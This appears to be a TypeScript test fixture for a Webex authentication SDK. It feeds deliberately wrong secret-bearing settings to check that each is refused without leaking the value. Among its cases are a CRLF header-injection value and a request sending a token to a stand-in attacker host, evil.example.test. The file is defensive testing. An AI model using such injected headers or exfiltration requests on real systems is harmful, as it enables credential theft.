import { writeFileSync } from 'node:fs';
import { KeyRing, Webex, WebexAuth, type WebexAuthOptions, type WebexOptions } from '../../src/index.js';
import type { Stage } from './run-script.js';
import { signIn } from './surface.js';

/** One call for each setting that holds a secret, with that setting wrong. All are refused, and none says what it was given. */
export async function configurationCalls({ cast, evidence, upstream }: Stage) {
  const secret = (): string => evidence.mint('wrong setting');
  const people = await cast.people();
  await signIn(people, evidence);
  const user = await people.user('ada');
  const open = (change: Record<string, unknown>) => (): Promise<unknown> => cast.people(change);
  const client = (clientSecret: unknown) => ({ clientId: 'C-people', clientSecret });
  const init =
    (options: unknown): (() => Promise<unknown>) =>
    async () =>
      Webex.init(options as WebexOptions);
  const pair = { client_id: 'C-solo', client_secret: secret() };
  const keyFile = `${cast.directory}/keys`;
  const written = secret();
  return {
    clientSecret: open({ client: client(`${secret()}\n`) }),
    clientSecretInList: open({ client: client([secret(), { value: secret() }]) }),
    clientSecretAsObject: open({ client: client({ value: secret() }) }),
    clientAsText: open({ client: secret() }),
    guestIssuer: open({ guestIssuer: { issuer: 'issuer-1', secret: `${secret()}!` } }),
    guestIssuerAsText: open({ guestIssuer: secret() }),
    ownerToken: open({ serviceApp: { ownerToken: { token: secret() } } }),
    ownerTokenUnsendable: open({ serviceApp: { ownerToken: `${secret()}\r\n` } }),
    keys: open({ keys: secret() }),
    store: open({ store: `redis://user:${secret()}@127.0.0.1` }),
    proxy: open({ http: { proxy: `ftp://user:${secret()}@127.0.0.1` } }),
    proxyAsObject: open({ http: { proxy: { auth: secret() } } }),
    proxyPassword: open({ http: { proxy: `http://user:%zz${secret()}@127.0.0.1` } }),
    endpoints: open({
      endpoints: { ...upstream.endpoints, apiBase: `https://user:${secret()}@127.0.0.1/v1` },
    }),
    origins: open({
      endpoints: { ...upstream.endpoints, allowedOrigins: [`https://u:${secret()}@127.0.0.1`] },
    }),
    unknown: open({ [secret()]: 1, clientSecret: secret() }),
    region: open({ endpoints: secret() }),
    accessToken: init({ access_token: `${secret()} x` }),
    contradiction: init({
      credentials: { ...pair, access_token: secret(), supertoken: { access_token: secret() } },
    }),
    bareToken: init(`${secret()} x`),
    refreshToken: init({
      credentials: { ...pair, access_token: secret(), refresh_token: { value: secret() } },
    }),
    authorizationString: init({ credentials: { client_secret: secret(), authorizationString: secret() } }),
    callback: init({ credentials: { ...pair, jwtRefreshCallback: secret() } }),
    environment: withEnvironment({ WEBEX_ACCESS_TOKEN: `${secret()} x` }, init({})),
    environmentOfClient: withEnvironment(
      { WEBEX_CLIENT_ID: `${secret()} x`, WEBEX_CLIENT_SECRET: `${secret()} x` },
      init({}),
    ),
    keysVariable: async () => KeyRing.fromEnvironment({ env: { WEBEX_AUTH_KEYS: `k1:${secret()}AAAA` } }),
    keyFile: async () => {
      writeFileSync(keyFile, `k1:${written}AAAA`, { mode: 0o600 });
      try {
        return KeyRing.fromFile(keyFile);
      } finally {
        // The file holds it by right.
        writeFileSync(keyFile, '');
      }
    },
    import: async () =>
      people.grants.import('x', { access_token: secret(), receivedAt: 1 }, { receivedAt: NaN }),
    botToken: () => people.bot(`${secret()} x`),
    jwtSecret: () => user.authorization.createJwt({ secretId: `${secret()}!` }),
    jwt: () => user.authorization.requestAccessTokenFromJwt({ jwt: `${secret()} x` }),
    verifier: () =>
      user.authorization.requestAuthorizationCodeGrant({ code: secret(), codeVerifier: `${secret()}!` }),
    loginUrl: async () => user.credentials.buildLoginUrl({ access_token: secret() }),
    logoutUrl: async () => user.credentials.buildLogoutUrl({ token: secret() }),
    header: () => user.request({ resource: 'x', headers: { 'x-secret': `${secret()}\r\nx: y` } }),
    elsewhere: () => user.request({ uri: `https://evil.example.test/?token=${secret()}` }),
    userinfo: () => user.fetch(`https://user:${secret()}@127.0.0.1/`),
    unopened: async () => WebexAuth.open(secret() as unknown as WebexAuthOptions),
  };
}

function withEnvironment(
  change: Record<string, string>,
  run: () => Promise<unknown>,
): () => Promise<unknown> {
  return async () => {
    Object.assign(process.env, change);
    try {
      return await run();
    } finally {
      for (const name of Object.keys(change)) Reflect.deleteProperty(process.env, name);
    }
  };
}
